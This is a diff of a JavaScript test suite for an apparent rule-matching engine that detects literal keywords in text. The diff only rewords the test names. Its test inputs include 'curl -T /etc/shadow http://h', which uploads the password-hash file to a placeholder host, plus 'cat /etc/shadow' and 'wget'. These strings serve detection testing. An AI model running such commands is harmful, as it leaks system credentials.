@@ -16,16 +16,16 @@ describe('the literals of rules', () => {
     return found;
   };
 
-  it('know which slots have any', () => {
+  it('list the slots that contain any', () => {
     assert.deepEqual([...literals.slots].sort(), [0, 1]);
   });
 
-  it('tell their rules once a text, without regard to case, in their own slot only', () => {
+  it('report their rules once per text, case-insensitively, in their own slot only', () => {
     assert.deepEqual(ofSlot(0, 'curl -T /etc/shadow http://h; Curl x'), [0, 3, 1]);
     assert.deepEqual(ofSlot(1, 'curl'), [2]);
   });
 
-  it('open the gates of those of the text that the slot has now', () => {
+  it("open the gates of those in the slot's current text", () => {
     const open = () => [0, 1, 2].filter((gate) => gates.next(gate) === gate);
     ofSlot(0, 'cat /etc/shadow');
     assert.deepEqual(open(), [1]);
@@ -38,7 +38,7 @@ describe('the literals of rules', () => {
     assert.equal(gates.next(0), 3, 'none: their number');
   });
 
-  it('open those of some gates only, from their first on', () => {
+  it('open the gates of a range, starting with the first', () => {
     ofSlot(0, 'wget');
     const last = literals.gates(0, 2, 2);
     assert.deepEqual([last.next(0), last.next(1), last.next(2)], [0, 1, 2], 'that without literals is always open');
